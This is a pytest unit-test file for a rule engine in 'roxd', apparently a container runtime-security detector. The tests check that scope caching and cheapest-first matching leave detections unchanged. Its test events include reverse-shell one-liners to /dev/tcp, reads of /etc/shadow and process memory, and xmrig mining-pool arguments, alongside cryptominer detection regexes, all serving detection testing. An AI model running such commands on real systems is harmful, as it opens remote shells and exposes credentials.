"""Issue 22's rule-matching shortcuts: the rules in scope of a container are decided once per
container object (and again for a new object or a new rule set), and the parts of an all/any
are evaluated cheapest first. Neither may change what matches."""

from __future__ import annotations

import dataclasses
import itertools
from pathlib import Path

import pytest

from roxd.model import Ancestor, Container, EnrichedEvent, ExecEvent, Process
from roxd.rules import ruleset as ruleset_mod
from roxd.rules.active import ActiveRules
from roxd.rules.compile import cost
from roxd.rules.fields import EventView
from tests.unit.test_rules_engine import box, exe_event, hits, load, rule

pytestmark = pytest.mark.unit

SCOPED = rule("t.nc-in-web", body="""
    [rule.when]
    exe_basename = "nc"
    [rule.scope]
    image = ["web*"]
    """) + rule("t.nc-anywhere", body="""
    [rule.when]
    exe_basename = "nc"
    [rule.scope]
    host = false
    """) + rule("t.tmp", body="""
    [rule.when]
    exe = { prefix = "/tmp/" }
    [rule.scope]
    image = ["web*"]
    """)


def test_a_container_whose_metadata_changed_is_judged_again(tmp_path: Path) -> None:
    rules = load(tmp_path, SCOPED)
    db = box(image="postgres:16")
    assert hits(rules, exe_event(("nc", "-l"), exe="/bin/nc", container=db)) == [
        "t.nc-anywhere"]
    # the runtime's metadata arrived late (or changed): the resolver hands out a new object
    web = dataclasses.replace(db, image="web:2")
    assert web.id == db.id
    assert hits(rules, exe_event(("nc", "-l"), exe="/bin/nc", container=web)) == [
        "t.nc-in-web", "t.nc-anywhere"]
    assert hits(rules, exe_event(("/tmp/x",), container=web)) == ["t.tmp"]
    # the old object still gets its own answer (an event already resolved before the change)
    assert hits(rules, exe_event(("nc", "-l"), exe="/bin/nc", container=db)) == [
        "t.nc-anywhere"]
    assert hits(rules, exe_event(("/tmp/x",), container=db)) == []
    # the host: an image filter narrows containers only; the container-only rule is out
    assert hits(rules, exe_event(("nc", "-l"), exe="/bin/nc")) == ["t.nc-in-web"]


def test_a_reload_brings_its_own_scopes(tmp_path: Path) -> None:
    web = box(image="web:1")
    (tmp_path / "a").mkdir()
    first = load(tmp_path / "a", SCOPED)
    assert hits(first, exe_event(("nc",), exe="/bin/nc", container=web)) == [
        "t.nc-in-web", "t.nc-anywhere"]
    narrowed = SCOPED.replace('image = ["web*"]', 'image = ["api*"]')
    (tmp_path / "b").mkdir()
    second = load(tmp_path / "b", narrowed)
    assert hits(second, exe_event(("nc",), exe="/bin/nc", container=web)) == ["t.nc-anywhere"]
    assert hits(first, exe_event(("nc",), exe="/bin/nc", container=web)) == [
        "t.nc-in-web", "t.nc-anywhere"]  # the old set is unchanged (immutable)


def test_the_scope_cache_is_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ruleset_mod, "MAX_SCOPED_CONTAINERS", 3)
    rules = load(tmp_path, SCOPED)
    boxes = [dataclasses.replace(box(image="web:1"), id=f"{i:064x}") for i in range(10)]
    for b in boxes:
        assert hits(rules, exe_event(("nc",), exe="/bin/nc", container=b)) == [
            "t.nc-in-web", "t.nc-anywhere"]
        assert len(rules._scoped) <= 3


def test_cheap_tests_are_ordered_first_and_the_pack_matches_as_before() -> None:
    """Every shipped rule, with its parts in written order and cheapest first, gives the same
    answer on a spread of execs (the written order is what the rule author wrote)."""
    pack = ActiveRules([Path(__file__).resolve().parents[2] / "rules"]).load()
    web = Container("c" * 64, "docker", "web", "nginx:1.25")
    shells = ("/bin/sh", "/bin/bash", "/usr/bin/python3", "/tmp/x", "/dev/shm/.x/y",
              "/usr/bin/curl", "/bin/dd", "/usr/bin/xmrig", "/bin/cat")
    params = ((), ("/tmp/a.sh",), ("-c", "sh -i >& /dev/tcp/1.2.3.4/4444 0>&1"),
              ("if=/proc/123/mem",), ("--donate-level", "1"), ("invoice.pdf",),
              ("-o", "stratum+tcp://pool:3333"), ("/etc/shadow",))
    parents = ((), (Ancestor(10, "/usr/bin/make", ("make",)),),
               (Ancestor(10, "/bin/bash", ("bash",)), Ancestor(9, "/usr/bin/pip", ("pip",))))
    events = []
    for exe, args, chain, where in itertools.product(shells, params, parents, (None, web)):
        argv = (exe, *args)
        ev = ExecEvent(time_ns=1, pid=20, ppid=10, uid=0, gid=0, cgroup_id=5, comm="x",
                       filename=exe, args=argv, args_truncated=False)
        proc = Process(pid=20, ppid=10, uid=0, exe=exe, comm="x", args=argv, cgroup_id=5,
                       ancestors=chain)
        events.append(EnrichedEvent(ev, where, proc))
    seen = 0
    for ev in events:
        fast = [m.rule.id for m in pack.match(ev)]
        view = EventView.of(ev)
        plain = [r.id for r in pack.candidates(ev.kind, view.exe_basename) if r.matches(view)]
        assert fast == plain
        seen += bool(fast)
    assert seen > 20  # the spread reaches many rules, not none


def test_cost_puts_the_ancestry_walk_after_the_argv_tests(tmp_path: Path) -> None:
    from roxd.rules.compile import AllOf, ResolvedTest
    from roxd.rules.fields import FIELDS

    walk = ResolvedTest(FIELDS["ancestor_basename"], "in", True, ("make",))
    name = ResolvedTest(FIELDS["exe_basename"], "in", False, ("sh",))
    regex = ResolvedTest(FIELDS["params"], "regex", False, ("^/tmp/",))
    assert cost(name) < cost(walk) and cost(name) < cost(regex)
    assert cost(AllOf((name, regex))) < cost(walk)


def test_joined_regexes_search_as_each_pattern_alone() -> None:
    """one_regex(): one search for a list of patterns (issue 22), the same answer as any()."""
    import re

    from roxd.rules.compile import one_regex

    patterns = [r"stratum\+(tcp|ssl|tls)://", "--donate-level", "(?i)cryptonight",
                r"--algo[= ](rx|cn|randomx)", r"(?i)\.(jpe?g|png)$", r"^\S+\s+(ash|sh)(\s|$)",
                r"\s$", r"(?m)^x$"]
    joined = one_regex(patterns)
    assert joined is not None
    texts = ["xmrig -o stratum+tcp://pool:1", "CryptoNight", "--algo=rx/0", "a.JPG", "a.jpg.sh",
             "busybox sh -c x", "busybox ash", "trailing ", "a\nx\nb", "X", "--donate-level 1",
             "", "plain text", "--ALGO=rx", "STRATUM+TCP://"]
    for text in texts:
        assert bool(joined.search(text)) == any(re.search(p, text) for p in patterns), text
    # group references would be renumbered in a joined pattern: kept apart
    assert one_regex([r"(a)\1", "b"]) is None
    assert one_regex([r"(?P<x>a)(?P=x)", "b"]) is None
    assert one_regex(["(?x) a b", "c"]) is None


def _plain_field_predicate(test):  # type: ignore[no-untyped-def]
    """The field test as written before issue 22's specialised closures: the reference."""
    from roxd.rules import compile as compile_mod

    read, check = test.spec.read, compile_mod._value_test(test)
    if test.spec.many:
        def positive(v):  # type: ignore[no-untyped-def]
            return any(check(x) for x in read(v))
    else:
        def positive(v):  # type: ignore[no-untyped-def]
            value = read(v)
            return value is not None and bool(check(value))
    return (lambda v: not positive(v)) if test.negated else positive


def test_the_pack_matches_the_same_with_regexes_kept_apart(monkeypatch: pytest.MonkeyPatch
                                                           ) -> None:
    """Every shipped rule compiled as roxd does (regex tests joined into one search, field
    tests as specialised closures) and plainly (one search per pattern, the generic field
    test) gives the same answers on a spread of execs."""
    from roxd.rules import compile as compile_mod

    rules_dir = Path(__file__).resolve().parents[2] / "rules"
    joined = ActiveRules([rules_dir]).load()
    monkeypatch.setattr(compile_mod, "merged_regex_tests", lambda parts: parts)
    monkeypatch.setattr(compile_mod, "one_regex", lambda patterns: None)
    monkeypatch.setattr(compile_mod, "_field_predicate", _plain_field_predicate)
    apart = ActiveRules([rules_dir]).load()
    web = Container("c" * 64, "docker", "web", "nginx:1.25")
    exes = ("/bin/sh", "/bin/busybox", "/usr/bin/python3", "/tmp/x", "/usr/bin/xmrig",
            "/home/u/invoice.pdf", "/x/report.JPG.sh", "/usr/bin/dd", "/usr/bin/nc ")
    argvs = ((), ("sh", "-c", "id"), ("-o", "stratum+tcp://pool:3333"), ("--donate-level=1",),
             ("if=/proc/self/mem",), ("/tmp/run.sh",), ("holiday.png",), ("--algo", "rx/0"),
             ("-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), ("ash",))
    seen = 0
    for exe, args, where in itertools.product(exes, argvs, (None, web)):
        argv = (exe, *args)
        ev = ExecEvent(time_ns=1, pid=20, ppid=10, uid=0, gid=0, cgroup_id=5, comm="x",
                       filename=exe, args=argv, args_truncated=False)
        chain = (Ancestor(10, "/usr/bin/make", ("make",)),) if len(args) % 2 else ()
        proc = Process(pid=20, ppid=10, uid=0, exe=exe, comm="x", args=argv, cgroup_id=5,
                       vpid=7 if args else 1, session="exec" if where else None,
                       ancestors=chain)
        enriched = EnrichedEvent(ev, where, proc, None, "new" if "tmp" in exe else "none",
                                 "new" if "/tmp/" in " ".join(args) else None)
        a = [m.rule.id for m in joined.match(enriched)]
        assert a == [m.rule.id for m in apart.match(enriched)], argv
        seen += bool(a)
    assert seen > 20
